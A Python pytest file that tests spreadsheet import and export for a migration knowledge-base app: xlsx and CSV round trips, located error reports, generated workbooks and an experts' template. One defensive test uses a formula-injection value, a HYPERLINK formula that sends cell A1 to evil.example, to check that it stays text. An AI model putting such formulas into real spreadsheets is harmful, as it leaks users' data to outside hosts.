"""Spreadsheets in and out: the whole shipped kb as xlsx and CSV round trips exactly; a broken workbook lists
every problem by sheet, row and column and imports nothing; the experts' template has drop-down lists."""

from __future__ import annotations

import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select

from migration_kb.importer import import_paths, import_workbook
from migration_kb.models import EntryRow, Revision
from migration_kb.records import Contributor, Entry, Finding, Source
from migration_kb.workbooks import write_xlsx
from tests.experts import add_people, signed_in

from .conftest import KB

pytestmark = pytest.mark.databases("sqlite", "postgresql")


def cells(path) -> dict[str, list[tuple]]:
    book = load_workbook(path)
    return {name: list(book[name].iter_rows(values_only=True)) for name in book.sheetnames}


def entry_count(db) -> int:
    with db.session() as s:
        return s.scalar(select(func.count()).select_from(EntryRow))


def test_the_whole_kb_round_trips_through_xlsx_and_csv(cli, db, tmp_path):
    assert cli("import", str(KB)).exit_code == 0
    first, second = tmp_path / "kb.xlsx", tmp_path / "again.xlsx"
    result = cli("export", "--format", "xlsx", str(first))
    assert result.exit_code == 0 and "Wrote 134 entries" in result.output, result.output
    sheets = cells(first)
    assert len(sheets["entries"]) - 1 == 134 and len(sheets["findings"]) > 134 and len(sheets["sources"]) >= 134
    with db.session() as s:
        revisions = s.scalar(select(func.count()).select_from(Revision))
    again = cli("import", str(first))
    # every row reads back to the very record it was written from (same content hash): nothing written
    assert again.exit_code == 0 and "entries: 0 added, 0 changed, 134 unchanged" in again.output, again.output
    with db.session() as s:
        assert s.scalar(select(func.count()).select_from(Revision)) == revisions
    assert cli("export", "--format", "xlsx", str(second)).exit_code == 0
    assert cells(second) == sheets
    folder = tmp_path / "csv"
    assert cli("export", "--format", "csv", str(folder)).exit_code == 0
    assert {p.name for p in folder.iterdir()} == {"entries.csv", "findings.csv", "sources.csv"}
    from_csv = cli("import", str(folder / "entries.csv"))
    assert "134 unchanged" in from_csv.output, from_csv.output


def test_a_fresh_instance_takes_the_kb_from_a_workbook(cli, db, tmp_path):
    write = tmp_path / "kb.xlsx"
    assert cli("import", str(KB)).exit_code == 0
    assert cli("export", "--format", "xlsx", str(write)).exit_code == 0
    with db.session() as s:  # empty the entries (events stay: entries cite their panels)
        for row in s.scalars(select(EntryRow)):
            s.delete(row)
    assert entry_count(db) == 0
    report = import_workbook(db, write)
    assert report.imported and report.entries["added"] == 134, report.errors
    again = tmp_path / "again.xlsx"
    assert cli("export", "--format", "xlsx", str(again)).exit_code == 0
    assert cells(again) == cells(write)


def test_a_broken_workbook_lists_every_problem_and_imports_nothing(cli, db, tmp_path):
    assert import_paths(db, [KB / "events"]).imported
    good = tmp_path / "good.xlsx"
    assert cli("import", str(KB)).exit_code == 0
    assert cli("export", "--format", "xlsx", str(good)).exit_code == 0
    with db.session() as s:
        for row in s.scalars(select(EntryRow)):
            s.delete(row)
    book = load_workbook(good)
    entries, findings = book["entries"], book["findings"]
    header = [c.value for c in entries[1]]
    column = {name: header.index(name) + 1 for name in header}
    entries.cell(row=3, column=column["themes"], value="management;no-such-theme")
    entries.cell(row=4, column=column["title"]).value = None
    duplicate = entries.cell(row=2, column=column["id"]).value
    entries.cell(row=5, column=column["id"], value=duplicate)
    findings.cell(row=6, column=1, value="ghost-entry")
    broken = tmp_path / "broken.xlsx"
    book.save(broken)
    result = cli("import", str(broken))
    assert result.exit_code == 1
    out = result.output
    assert "entries, row 3, column E (themes): 'no-such-theme' is not a theme" in out, out
    assert "entries, row 4, column B (title): is required" in out, out
    assert f"entries, row 5, column A (id): {duplicate!r} is also the id of row 2" in out, out
    assert "findings, row 6, column A (entry_id): no entry 'ghost-entry' on the entries sheet" in out, out
    assert "nothing was imported" in out
    assert entry_count(db) == 0
    # a finding's own cell is named on its sheet
    book = load_workbook(good)
    book["findings"].cell(row=2, column=2, value="opinion")
    book.save(broken)
    out = cli("import", str(broken)).output
    assert "findings, row 2, column B (kind): 'opinion' is not one of strength, difficulty, lesson, " \
           "recommendation" in out, out
    # --partial imports the valid rows only
    partial = cli("import", "--partial", str(broken))
    assert "133 added" in partial.output and entry_count(db) == 133


def test_text_that_looks_like_a_formula_stays_text(db, tmp_path):
    assert import_paths(db, [KB / "events"]).imported
    entry = Entry(id="formula", title='=HYPERLINK("http://evil.example/?"&A1,"Click")', summary="+1 summary",
                  language="en", themes=("protection",), countries=("MX",), year_start=2004,
                  contributor=Contributor(name="@someone"), sources=(Source(title="-minus", year=2001),),
                  findings=(Finding(kind="lesson", text="=1+1", topics=("integration",)),), body="Line\n\nTwo\n")
    path = tmp_path / "f.xlsx"
    write_xlsx([entry], path)
    book = load_workbook(path)
    title = book["entries"]["B2"]
    assert title.data_type == "s" and title.value == entry.title
    assert book["findings"]["C2"].data_type == "s"
    report = import_workbook(db, path)
    assert report.imported and report.entries["added"] == 1, report.errors
    again = tmp_path / "g.xlsx"
    write_xlsx([entry], again)
    assert cells(again) == cells(path)


def test_not_a_workbook(cli, tmp_path):
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"not a zip")
    result = cli("import", str(junk))
    assert result.exit_code == 1 and "not an xlsx workbook" in result.output
    assert cli("import", str(junk), str(KB)).exit_code == 2  # one spreadsheet at a time


# openpyxl refuses control characters in cells (so no workbook holds them); the rest of Unicode is fair game
CELL = st.one_of(st.none(), st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=40),
                 st.integers(-10**6, 10**6), st.floats(allow_nan=False),
                 st.sampled_from(["protection", "MX;CA", "en", "2004", "strength", "x;;y", "=1+1"]))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(CELL, min_size=20, max_size=22), min_size=1, max_size=4),
       findings=st.lists(st.lists(CELL, min_size=4, max_size=5), max_size=3),
       sources=st.lists(st.lists(CELL, min_size=5, max_size=5), max_size=3))
def test_generated_workbooks_import_whole_or_not_at_all(db, tmp_path, rows, findings, sources):
    """Any cells: a list of located problems or a whole import, never a crash, never half the rows."""
    from openpyxl import Workbook

    from migration_kb.workbooks import ENTRY_COLUMNS, FINDING_COLUMNS, SOURCE_COLUMNS

    book = Workbook()
    book.remove(book.active)
    for name, columns, data in (("entries", ENTRY_COLUMNS, rows), ("findings", FINDING_COLUMNS, findings),
                                ("sources", SOURCE_COLUMNS, sources)):
        sheet = book.create_sheet(name)
        sheet.append(list(columns))
        for row in data:
            sheet.append(row)
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    path = tmp_path / "generated.xlsx"
    book.save(path)
    before = entry_count(db)
    report = import_workbook(db, path)
    if report.errors:
        assert not report.imported and entry_count(db) == before
        assert all(line.startswith(("entries, row", "findings, row", "sources, row")) for line in report.errors)
    else:
        assert report.imported


def test_the_experts_template(app):
    add_people(app, {"sheet-expert": "expert"})
    expert = signed_in(app, "sheet-expert")
    desk = expert.get("/desk?lang=fr").get_data(as_text=True)
    assert 'href="/desk/spreadsheet-template.xlsx"' in desk and "Télécharger le modèle de classeur" in desk
    answer = expert.get("/desk/spreadsheet-template.xlsx")
    assert answer.status_code == 200 and answer.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(answer.data))
    assert book.sheetnames == ["entries", "findings", "sources", "vocabularies"]
    ids = {book["vocabularies"].cell(row=1, column=c).value: [r[0] for r in book["vocabularies"].iter_rows(
        min_row=2, min_col=c, max_col=c, values_only=True) if r[0]] for c in range(1, 10)}
    assert "protection" in ids["themes"] and "MERCOSUR" in ids["blocs"] and "MX" in ids["countries"]
    lists = {str(v.sqref): v.formula1 for v in book["entries"].data_validations.dataValidation}
    assert lists["D2:D5000"].startswith("'vocabularies'!$A$2")  # language
    assert any("$B$2" in f for f in lists.values())  # themes
    assert app.test_client().get("/desk/spreadsheet-template.xlsx").status_code in (302, 401, 403)
